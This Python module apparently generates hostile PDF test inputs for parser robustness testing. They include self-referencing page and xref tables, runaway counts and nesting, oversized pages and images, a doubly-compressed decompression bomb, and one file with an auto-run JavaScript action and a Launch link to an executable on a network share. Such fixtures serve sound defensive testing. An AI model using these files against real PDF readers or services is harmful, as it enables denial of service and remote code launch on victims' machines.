"""Hostile pdf: objects, pages, tables that lead back to themselves, counts without end."""

from __future__ import annotations

import zlib

MB = 1 << 20


def made(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A pdf of these objects, its table right."""
    out = b"%PDF-1.7\n"
    places: dict[int, int] = {}
    for number, data in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + data + b"\nendobj\n"
    table = len(out)
    last = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % last
    for number in range(1, last):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    return out + b"trailer\n<</Size %d %b>>\nstartxref\n%d\n%%%%EOF\n" % (last, trailer, table)


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d %b>>stream\n" % (len(data), more) + data + b"\nendstream"


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R/Resources<<%b>>>>"
FONT = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
WORDS = stream(b"BT /F 12 Tf 10 10 Td (words) Tj ET")


def pages_in_a_ring() -> bytes:
    return made({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"})


def pages_without_number() -> bytes:
    return made({1: CATALOG, 2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", 3: PAGE % FONT, 4: WORDS})


def pages_beyond_the_bound() -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(10, 5_510))
    pages = dict.fromkeys(range(10, 5510), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    return made({1: CATALOG, 2: b"<</Type/Pages/Kids[%b]/Count 5500>>" % kids, **pages})


def table_that_precedes_itself() -> bytes:
    content = made({1: CATALOG, 2: PAGES, 3: PAGE % FONT, 4: WORDS})
    at = content.rindex(b"xref\n0")
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def table_that_is_not_there() -> bytes:
    content = made({1: CATALOG, 2: PAGES, 3: PAGE % FONT, 4: WORDS})
    return content[: content.rindex(b"startxref")] + b"startxref\n99999999999\n%%EOF"


def form_that_draws_itself() -> bytes:
    form = stream(
        b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    )
    return made({1: CATALOG, 2: PAGES, 3: PAGE % b"/XObject<</X 5 0 R>>", 4: stream(b"/X Do"), 5: form})


def objects_in_a_ring() -> bytes:
    return made({1: b"1 0 R", 2: b"3 0 R", 3: b"2 0 R"})


def length_in_a_ring() -> bytes:
    return made({1: CATALOG, 2: PAGES, 3: PAGE % FONT, 4: b"<</Length 4 0 R>>stream\nx\nendstream"})


def bookmarks_in_a_ring() -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>"
    return made(
        {
            1: root,
            2: PAGES,
            3: PAGE % FONT,
            4: WORDS,
            5: b"<</First 6 0 R>>",
            6: b"<</Title(a)/First 6 0 R/Next 6 0 R>>",
        }
    )


def arrays_without_floor() -> bytes:
    return made({1: CATALOG, 2: PAGES, 3: PAGE % FONT, 4: stream(b"[" * 500_000)})


def page_as_large_as_a_country() -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]/Contents 4 0 R/Resources<<%b>>>>" % FONT
    return made({1: CATALOG, 2: PAGES, 3: page, 4: WORDS})


def picture_as_large_as_a_country() -> bytes:
    picture = stream(
        zlib.compress(b"\0" * 1000),
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
    )
    return made({1: CATALOG, 2: PAGES, 3: PAGE % b"/XObject<</X 5 0 R>>", 4: stream(b"/X Do"), 5: picture})


def squeezed_twice() -> bytes:
    """A page description that swells a millionfold."""
    data = zlib.compress(zlib.compress(b" " * (400 * MB), 9), 9)
    return made({1: CATALOG, 2: PAGES, 3: PAGE % FONT, 4: stream(data, b"/Filter[/FlateDecode/FlateDecode]")})


def with_script_and_launch() -> bytes:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    root = b"<</Type/Catalog/Pages 2 0 R/OpenAction %b/Names<</JavaScript<</Names[(a) 6 0 R]>>>>>>" % script
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R/Resources<<%b>>/Annots[<</Type/Annot/Subtype/Link"
        b"/Rect[0 0 9 9]/A<</S/Launch/F(\\\\\\\\server\\\\x.exe)>>>>]>>" % FONT
    )
    return made({1: root, 2: PAGES, 3: page, 4: WORDS, 6: script})


def cut_off() -> bytes:
    return made({1: CATALOG, 2: PAGES, 3: PAGE % FONT, 4: WORDS})[:120]


def head_alone() -> bytes:
    return b"%PDF-1.7\n" + b"\xff" * 10_000
